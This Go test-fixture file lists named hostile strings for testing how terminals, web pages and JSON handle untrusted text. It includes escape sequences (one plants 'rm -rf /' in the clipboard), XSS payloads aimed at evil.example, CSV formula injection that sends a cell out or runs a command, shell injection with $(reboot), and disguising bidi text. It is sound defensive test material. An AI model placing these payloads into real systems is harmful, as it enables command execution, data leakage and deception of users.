// Package hostile lists values that try to steer or to break whatever shows them. It is
// for tests: of the terminal, the page and JSON alike.
package hostile

import "strings"

// A Value is a hostile value with what it tries.
type Value struct {
	Name string // a word or two, fit for the name of a subtest
	Text string
}

// Values returns the list, newly made. All of it can stand in a cell of a CSV file that
// is quoted.
func Values() []Value {
	return []Value{
		{"clear screen", "\x1b[2J\x1b[Hgone"},
		{"colour", "\x1b[31mred\x1b[0m"},
		{"title", "\x1b]0;title\a"},
		{"clipboard", "\x1b]52;c;cm0gLXJmIC8=\a"},
		{"link of a terminal", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
		{"alternate screen", "\x1b[?1049h\x1b[?1000h"},
		{"C1 control", "\u009b2J\u009d0;title\u009c"},
		{"eight bit control", "\x9b2J"},
		{"carriage return", "shown\rhidden"},
		{"backspace", "shown\b\b\b\b\bhidden"},
		{"newlines", "one\ntwo\r\nthree\n\n\n"},
		{"line separator", "one\u2028two\u2029three\u0085four"},
		{"NUL", "a\x00b"},
		{"tabs", "\t\t\ta\v\fb"},
		{"bidi override", "user\u202egnp.exe\u202c"},
		{"bidi isolate", "\u2066\u2067abc\u2069\u2069"},
		{"right to left", "שלום \u200f\u061cعربي"},
		{"zero width", "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00ad"},
		{"tags", "a\U000e0041\U000e0042b"},
		{"combining", "Z" + strings.Repeat("\u0351\u0489\u0321", 60) + "algo"},
		{"wide", strings.Repeat("漢字", 40) + "👩\u200d👩\u200d👧🏽"},
		{"invalid UTF-8", "caf\xe9 \xff\xfe \xc3\x28 \xed\xa0\x80"},
		{"replacement", "\ufffd real"},
		{"script", `<script>document.title="hacked";fetch("http://evil.example/")</script>`},
		{"image", `<img src="http://evil.example/x.png" onerror="document.title='hacked'">`},
		{"end of tag", `"><svg onload=document.title='hacked'>`},
		{"end of elements", `</td></tr></table></article></main></body></html>`},
		{"end of script", `</script></style></textarea></title><script>document.title="hacked"</script>`},
		{"comment", `<!-- --!> <![CDATA[ ]]> -->`},
		{"style", `<style>*{display:none!important}</style>`},
		{"refresh", `<meta http-equiv=refresh content="0;url=http://evil.example/">`},
		{"base", `<base href="http://evil.example/"><iframe src="javascript:document.title='hacked'"></iframe>`},
		{"link", `javascript:document.title='hacked'`},
		{"entity", `&lt;b&gt; &#x3c;script&#x3e; &amp;amp;`},
		{"template", `{{.}} ${document.title='hacked'} {{define "x"}}{{end}}`},
		{"quotes", "'\"`\\"},
		{"formula", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"formula of a command", `=cmd|' /C calc'!A0`},
		{"formula signs", `+1-1@SUM(A1)`},
		{"format", `%s%n%x %!s(MISSING)`},
		{"shell", `$(reboot) ; reboot && | reboot`},
		{"JSON", `","settled":"ours"},{"x":"`},
		{"marker", "<<<<<<< ours\n=======\n>>>>>>> theirs"},
		{"prototype", `__proto__`},
		{"long word", strings.Repeat("w", 1<<20)},
		{"long text", strings.Repeat("four ", 1<<18)},
		{"long escapes", strings.Repeat("\x1b[5m", 1<<10)},
	}
}
